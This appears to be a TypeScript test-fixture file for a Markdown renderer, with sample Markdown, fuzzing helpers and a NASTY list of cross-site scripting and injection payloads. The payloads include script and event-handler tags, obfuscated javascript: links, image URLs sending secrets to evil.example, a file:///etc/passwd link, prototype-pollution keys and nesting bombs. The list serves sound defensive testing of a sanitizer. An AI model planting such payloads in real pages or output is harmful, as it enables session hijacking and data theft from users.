/** Texts for the tests: answers as models write them, and texts made to do harm. */

export const ANSWER = `# Report on *growth*

The company grew by **12 %** in \`2024\` [1], from $5 to $8 a share, see [the filing](https://example.org/a_(b)?x=1&y=2 "10-K") or
https://example.org/report. In short: $E = mc^2$ and \\(a_1 * b_1\\), but 2*3 and snake_case_name stay.

## Steps

1. First **open** the file
   with a second line
2. Then run \`make up\`:
   \`\`\`bash
   make up
   # done
   \`\`\`
3. Finally:
   - one
   - two with ~~old~~ new words
     - three

- [ ] open task
- [x] closed task

> A quotation with *emphasis*
> over two lines [2].

| Name | Value | Note |
|:-----|------:|:----:|
| a | 1.50 | **bold** |
| b<br>c | 20 | \`x\` |

$$
\\int_0^1 x^2 \\, dx = \\frac{1}{3}
$$

The same as \\[ a^2 + b^2 = c^2 \\] in a line.

\`\`\`python
def f(x: int) -> int:
    """Double; not a *list* or | table |."""
    return x * 2
\`\`\`

---

Last words, ![a chart](https://example.org/chart.png) and an ending.
`

/** Each is a text whose blocks, once shown, must keep their kind while the rest arrives. */
export const STEADY: readonly string[] = [
  ANSWER,
  'Intro:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nafter\n',
  'Text\n- item one\n- item two\n\nText\n\n1. one\n2. two\n',
  'Para\n\n```\nplain\n```\n\n~~~js\nlet x = 1\n~~~\n',
  'Before\n\n***\n\n**bold** start and __also__ this\n\n* star list\n* more\n',
  '#hashtag is text\n\n### Heading\nfollowed at once\n',
  'Price list: $3, $4 and $5.\n\nMath: $x_1$ then $$y$$ done.\n',
]

export const NASTY: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>body{display:none}</style>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](blob:https://example.org/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/path)',
  '[x](/admin/logout)',
  '[x](https://bank.example@evil.example/)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?q=secret)',
  '![x](//evil.example/p.png)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](/api/files/../../admin)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '![x][r]\n\n[r]: https://evil.example/pixel.gif',
  '```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{color:red}{x}$ $\\url{javascript:1}$',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | [x](javascript:1) |',
  '# <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>\n- [ ] <b onclick=alert(1)>x</b>',
  '"><img src=x onerror=alert(1)>',
  '[a](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
  '&lt;script&gt;alert(1)&lt;/script&gt; &constructor; &toString; &#0; &#x110000; &#xD800;',
  '```constructor\nx\n```\n\n```__proto__\nx\n```',
  '[__proto__]: https://ok.example\n\n[__proto__] [constructor]',
  '[1]: javascript:alert(1)\n\n[1] [constructor]',
  `${'>'.repeat(5000)}deep`,
  `${'- '.repeat(1000)}deep`,
  `${'*a **b '.repeat(500)}`,
  `${'['.repeat(3000)}${'$'.repeat(3000)}${'`'.repeat(501)}`,
  '\u202Etxt.exe\u202C \u0000 \uE000 \uFFFE \uD800',
]

/** Small deterministic random numbers (mulberry32), so that a failing case can be run again. */
export function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296
  }
}

const PIECES = [
  'word ', 'two words ', '\n', '\n\n', '\n', '- ', '1. ', '  ', '    ', '> ', '# ', '### ', '**', '*', '_', '__', '~~', '`', '```', '```js\n', '~~~',
  '|', '| a | b |\n', '|---|:-:|\n', '$', '$$', '\\(', '\\)', '\\[', '\\]', '[', ']', '](', '(https://example.org)', '![', '[1]', '[1, 2]', '[x]: https://e.org\n',
  '\\', '<br>', '<b>', '&amp;', '&', '---\n', '===\n', '***\n', '- [ ] ', '\t', '5', '.', 'é', '\u05D0', '👩‍👩‍👧', '\r\n', 'https://example.org/x_y', 'a@b.co',
]

/** A text of Markdown's own building bricks in senseless order. */
export function jumble(seed: number, length: number): string {
  const next = random(seed)
  let text = ''
  for (let count = 0; count < length; count += 1) text += PIECES[Math.floor(next() * PIECES.length)]
  return text
}
